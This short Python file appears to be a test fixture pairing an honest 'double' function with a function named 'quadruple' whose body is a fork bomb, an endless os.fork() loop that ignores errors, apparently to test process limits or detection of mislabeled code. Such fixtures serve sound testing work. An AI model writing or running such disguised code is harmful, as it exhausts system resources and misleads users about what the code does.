"""A fork bomb stops at the limit, is stopped in time, and leaves nothing behind.

honest: double
says: `quadruple`
"""

import os


def double(x):
    return 2.0 * x


def quadruple(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
